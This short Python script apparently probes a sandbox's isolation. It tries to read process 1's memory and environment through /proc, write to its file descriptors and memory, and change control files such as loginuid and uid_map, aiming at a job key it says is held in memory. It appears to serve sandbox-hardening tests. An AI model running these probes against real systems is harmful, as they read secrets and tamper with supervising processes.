# What /proc tells of process 1 and lets do to it: the key of the job is in its memory, and its streams lead to the worker.
import os
from attack import *

for pid in ("1", "1/task/1"):
    for name in ("mem", "environ", "maps", "smaps", "auxv", "pagemap", "stack", "syscall", "personality", "io", "map_files", "numa_maps", "timers", "patch_state"):
        path = "/proc/%s/%s" % (pid, name)
        if os.path.lexists(path) or name in ("mem", "environ", "maps"):
            attempt("read " + path, lambda: os.listdir(path) if name == "map_files" else open(path, "rb").read(1) or None)
    for name in ("cwd", "root", "exe", "ns/mnt", "ns/pid", "ns/net"):
        attempt("follow /proc/%s/%s" % (pid, name), os.readlink, "/proc/%s/%s" % (pid, name))
    attempt("list the descriptors of " + pid, os.listdir, "/proc/%s/fd" % pid)
    for fd in range(8):
        attempt("write to descriptor %d of %s" % (fd, pid), os.open, "/proc/%s/fd/%d" % (pid, fd), os.O_WRONLY | os.O_NONBLOCK)
    attempt("write the memory of " + pid, os.open, "/proc/%s/mem" % pid, os.O_WRONLY)
    for name, text in (("oom_score_adj", "1000"), ("clear_refs", "1"), ("coredump_filter", "0xff"), ("comm", "mine"), ("timerslack_ns", "999999999"),
                       ("autogroup", "19"), ("loginuid", "0"), ("uid_map", "0 0 1"), ("setgroups", "deny"), ("attr/current", "x")):
        attempt("write %s of %s" % (name, pid), write, "/proc/%s/%s" % (pid, name), text)
